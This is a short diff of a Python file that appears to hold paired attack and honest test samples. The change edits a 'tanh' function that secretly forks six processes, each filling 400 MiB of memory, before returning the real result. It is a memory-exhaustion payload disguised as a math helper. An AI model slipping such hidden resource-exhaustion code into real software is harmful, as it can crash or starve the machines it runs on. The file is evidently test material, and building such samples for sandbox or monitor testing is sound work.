@@ -243,14 +243,15 @@ ATTACKS = (
             import mmap, os, time
 
             def tanh(x):
-                for _ in range(9):
+                for _ in range(6):
                     if os.fork() == 0:
                         held = mmap.mmap(-1, 400 * 2**20)
                         for _ in range(400):
                             held.write(b"x" * 2**20)
-                        time.sleep(4)
+                        time.sleep(1)
                         os._exit(0)
-                time.sleep(3)
+                for _ in range(6):
+                    os.wait()
                 return np.tanh(x)
         """),
         twin=honest("""
